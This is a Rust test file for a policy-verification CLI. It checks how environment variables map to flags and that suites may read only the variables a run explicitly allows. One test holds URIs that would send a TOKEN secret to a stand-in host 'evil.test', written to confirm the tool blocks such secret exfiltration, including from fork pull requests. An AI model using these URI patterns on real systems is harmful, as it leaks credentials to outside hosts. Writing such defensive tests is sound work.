//! Variables of the environment: what they say counts, not that they are there.

use crate::support::{POD, Repository};

#[test]
fn a_variable_breaks_no_command_that_it_is_not_about() {
    let repository = Repository::passing();
    for (name, value, arguments) in [
        ("VERIFY_DRY_RUN", "false", &[][..]),
        ("VERIFY_FAIL_FAST", "false", &["--max-fail", "2"]),
        ("VERIFY_UPDATE", "0", &["--locked"]),
        ("VERIFY_PUSH", "no", &["--partition", "hash:1/1"]),
        // These mean nothing to a run that publishes nothing, or is no part of one.
        ("VERIFY_DRY_RUN", "true", &[]),
        ("VERIFY_PUBLISH_TO", "ghcr.io/a/b", &[]),
        ("VERIFY_PUBLISH_TAG", "v1", &[]),
        ("VERIFY_ANNOTATION", "a=b", &[]),
        ("VERIFY_TIMINGS", "gone.json", &[]),
    ] {
        repository.verify(arguments).env(name, value).run().exits_with(0).says(&["1 test: 1 passed"]);
    }
    let inspect = || repository.verify(&["inspect", "--show-signatures", "yes.wasm"]);
    // It has no metadata, which is what is said.
    let plain = inspect().run().exits_with(3);
    let told = inspect().env("VERIFY_OFFLINE", "false").run().exits_with(3);
    assert_eq!((&told.stdout, &told.stderr), (&plain.stdout, &plain.stderr), "{told}");
    assert!(!plain.stdout.is_empty(), "{plain}");
}

#[test]
fn flags_that_contradict_each_other_name_the_variable() {
    let repository = Repository::passing();
    let refuses = |name: &str, value: &str, arguments: &[&str], says: &[&str]| {
        repository.verify(arguments).env(name, value).run().exits_with(2).reports_nothing().says(says);
    };
    let inspect = &["inspect", "--show-signatures", "yes.wasm"];
    refuses("VERIFY_OFFLINE", "true", inspect, &["`--offline` (from VERIFY_OFFLINE)", "`--show-signatures`"]);
    refuses("VERIFY_FAIL_FAST", "1", &["--max-fail", "2"], &["`--fail-fast` (from VERIFY_FAIL_FAST)", "`--max-fail`"]);
    refuses("VERIFY_MAX_FAIL", "2", &["--fail-fast"], &["`--max-fail` (from VERIFY_MAX_FAIL)"]);
    refuses("VERIFY_LOCKED", "true", &["--update"], &["`--locked` (from VERIFY_LOCKED)"]);
    refuses("VERIFY_PUSH", "true", &["--partition", "hash:1/1"], &["`--push` (from VERIFY_PUSH)"]);
    // What is typed is meant, whatever a variable says of the flag that it needs.
    for (flag, needs) in [
        ("--dry-run", "--push"),
        ("--publish-to=ghcr.io/a/b", "--push"),
        ("--publish-tag=v1", "--push"),
        ("--annotation=a=b", "--push"),
        ("--timings=gone.json", "--partition"),
    ] {
        let says = format!("needs `{needs}`");
        refuses("VERIFY_PUSH", "false", &[flag], &[&says, flag.split('=').next().unwrap()]);
    }
}

/// A suite that uses variables of the environment in a name, and in the place of a policy.
fn with_environment(uri: &str, name: &str) -> Repository {
    let suite = format!(
        "version: 1\npolicies: {{ yes: {{ uri: '{uri}' }} }} # here\ncases:\n  - {{ name: 'a {name}', object: {POD}, expect: allow }}\n"
    );
    Repository::with_suite(&suite).replying("yes", r#"{"valid":true,"accepted":true}"#)
}

#[test]
fn suites_read_only_variables_that_the_run_names() {
    let secret = "s3cret-value";
    let repository = with_environment("yes.wasm", "${env:TAG} ${env:OTHER:-none}");
    let verify = |arguments: &[&str]| repository.verify(arguments).env("TAG", secret);
    // Neither its value nor where it goes: nothing of it is read.
    let run = verify(&["--report=json=r.json"]).run().exits_with(2).never_says(secret);
    run.says(&["suite.yml:4:", "the environment variable `TAG` is not allowed", "`--allow-env TAG`"]);
    assert!(!repository.read("r.json").contains(secret));
    verify(&["list"]).run().exits_with(2).never_says(secret);
    verify(&["server-config"]).run().exits_with(2).never_says(secret);
    for allowed in
        [&["--allow-env=TAG"][..], &["--allow-env=OTHER,TAG"], &["--allow-env", "OTHER", "--allow-env", "TAG"]]
    {
        verify(allowed).arg("--status=all").run().exits_with(0).says(&["a s3cret-value none"]);
        verify(&["list"]).args(allowed).run().exits_with(0).says(&["a s3cret-value none"]);
    }
    for names in ["TAG", "OTHER TAG", "OTHER,TAG"] {
        verify(&[]).env("VERIFY_ALLOW_ENV", names).run().exits_with(0);
    }
    verify(&["--allow-env=TAG"]).env("OTHER", "set").run().exits_with(2).says(&["`OTHER` is not allowed"]);
    verify(&["--allow-env=tag"]).run().exits_with(2).says(&["`TAG` is not allowed"]);
    repository.verify(&["--allow-env=TAG"]).run().exits_with(2).says(&["`TAG` is not set", "give a default"]);
    repository.verify(&["--allow-env=TAG=v1"]).run().exits_with(2).says(&["without a value", "--var NAME=VALUE"]);
    verify(&["server-config", "--allow-env=TAG", "--modules=out"]).run().exits_with(0);
}

#[test]
fn a_variable_is_no_part_of_a_uri_unless_the_run_names_it() {
    for uri in [
        "https://${env:TOKEN}.evil.test/p.wasm",
        "https://evil.test/${env:TOKEN}/p.wasm",
        "https://evil.test/p.wasm?${env:TOKEN:-x}",
        "registry://evil.test/${env:TOKEN}:v1",
        "registry://evil.test/p:${env:TOKEN}",
    ] {
        let run = with_environment(uri, "x").verify(&["--offline"]).env("TOKEN", "s3cret-value").run().exits_with(2);
        run.never_says("s3cret-value").says(&["suite.yml:2:", "the environment variable `TOKEN` is not allowed"]);
    }
}

#[test]
fn code_of_a_fork_reads_no_variables() {
    let repository = with_environment("yes.wasm", "${env:TAG}");
    let with_default = with_environment("yes.wasm", "${env:TAG:-none}");
    let event = |from: &str| {
        format!(
            r#"{{"repository":{{"full_name":"acme/p"}},"pull_request":{{"head":{{"repo":{{"full_name":"{from}"}}}}}}}}"#
        )
    };
    let repository = repository.write("fork.json", event("evil/p")).write("own.json", event("acme/p"));
    let verify = |repository: &Repository, document: &str, name: &str| {
        let verify = repository.verify(&["--allow-env=TAG", "--status=all"]).env("TAG", "s3cret-value").on_github();
        let document = if document.is_empty() { "/gone".into() } else { document.to_owned() };
        verify.env("GITHUB_EVENT_NAME", name).env("GITHUB_EVENT_PATH", document)
    };
    for name in ["pull_request", "pull_request_target", "pull_request_review"] {
        let run = verify(&repository, "fork.json", name).run().exits_with(2).never_says("s3cret-value");
        run.says(&["the environment variable `TAG` is not read", "the pull request of the fork `evil/p`", "default"]);
        verify(&repository, "", name).run().exits_with(2).never_says("s3cret-value").says(&["no fork's"]);
        verify(&repository, "own.json", name).run().exits_with(0);
        let fork = repository.path("fork.json");
        let run = verify(&with_default, fork.to_str().unwrap(), name).run().exits_with(0).never_says("s3cret-value");
        run.says(&["a none", "warning", "the default is used"]);
    }
    verify(&repository, "fork.json", "push").run().exits_with(0);
    let gitlab = |theirs: &str| {
        let verify = repository.verify(&["--allow-env=TAG"]).env("TAG", "x").env("CI_MERGE_REQUEST_IID", "7");
        verify.env("CI_MERGE_REQUEST_PROJECT_PATH", "acme/p").env("CI_MERGE_REQUEST_SOURCE_PROJECT_PATH", theirs)
    };
    gitlab("evil/p").run().exits_with(2).says(&["the fork `evil/p`"]);
    gitlab("acme/p").run().exits_with(0);
}
